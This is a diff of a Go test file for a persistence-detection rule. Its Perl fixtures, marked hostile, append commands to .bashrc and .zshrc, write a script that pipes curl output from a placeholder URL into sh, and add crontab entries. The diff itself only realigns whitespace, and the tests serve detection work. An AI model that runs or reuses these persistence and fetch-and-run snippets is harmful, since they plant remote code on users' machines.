@@ -20,7 +20,7 @@ func TestStartupWordListsAndCrontab(t *testing.T) {
 	const perl = "#!/usr/bin/perl\nuse strict;\nmy $home = $ENV{HOME};\n"
 	const netRun = "print $out \"#!/bin/sh\\ncurl -fsS '$u' | sh\\n\";\n"
 	checkRule(t, "persistence", map[string]systemCase{
-		"hostile/perl-qw-rc-append": {one("scripts/a.pl", perl+"for my $rc (qw(.bashrc .zshrc)) {\n  open my $fh, '>>', \"$home/$rc\" or next;\n  print $fh \"alias x=y\\n\";\n}\n"), high},
+		"hostile/perl-qw-rc-append":  {one("scripts/a.pl", perl+"for my $rc (qw(.bashrc .zshrc)) {\n  open my $fh, '>>', \"$home/$rc\" or next;\n  print $fh \"alias x=y\\n\";\n}\n"), high},
 		"hostile/perl-qw-rc-curl-sh": {one("scripts/a.pl", perl+"open my $out, '>', \"$home/.r.sh\";\n"+netRun+"for my $rc (qw[.bashrc .zshrc]) {\n  open my $fh, '>>', \"$home/$rc\" or next;\n  print $fh \"sh $home/.r.sh\\n\";\n}\n"), crit},
 		"hostile/perl-crontab-argv":  {one("scripts/a.pl", perl+"open my $c, '|-', 'crontab', '-' or die;\nprint $c \"*/5 * * * * $home/bin/x\\n\";\nclose $c;\n"), high},
 		"hostile/perl-crontab-pipe":  {one("scripts/a.pl", perl+"open(my $c, \"| crontab -\") or die;\nprint $c \"\\@reboot $home/bin/x\\n\";\n"), high},
